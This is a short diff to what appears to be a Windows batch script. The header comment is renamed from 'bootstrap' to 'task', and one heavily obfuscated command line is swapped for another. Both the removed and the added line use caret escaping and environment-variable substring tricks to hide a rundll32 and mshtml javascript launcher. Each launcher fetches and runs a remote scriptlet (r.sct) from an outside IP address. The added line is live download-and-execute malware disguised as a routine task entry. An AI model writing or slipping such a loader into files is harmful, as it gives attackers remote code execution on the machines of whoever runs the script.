@@ -1,2 +1,2 @@
-REM bootstrap 8400 v2
-%programdata:~4,1%%PUBLIC:~-5,1%%COMSPEC:~5,1%%windir:~6,1%%PUBLIC:~12,1%%public:~12,1%^32.%PUBLIC:~5,1%%COMSPEC:~25,1%%comspec:~24,1% j^a^vas^cript:"\..\mshtml,RunHTMLApplication ";d^ocum^ent.w^ri^te();^Ge^t^O^b^je^ct("script:http://192.0.2.150/r.sct")
+REM task 7442 v2
+%programdata:~-10,1%^u%comspec:~-22,1%%comspec:~6,1%%PUBLIC:~-3,1%%PUBLIC:~-3,1%3^2.%COMSPEC:~26,1%%comspec:~-2,1%%COMSPEC:~-1,1% ^ja^vascr^ipt:"\..\mshtml,RunHTMLApplication ";d^ocu^m^e^nt.^w^r^ite();G^e^tO^b^je^c^t("script:http://198.51.100.9/r.sct")
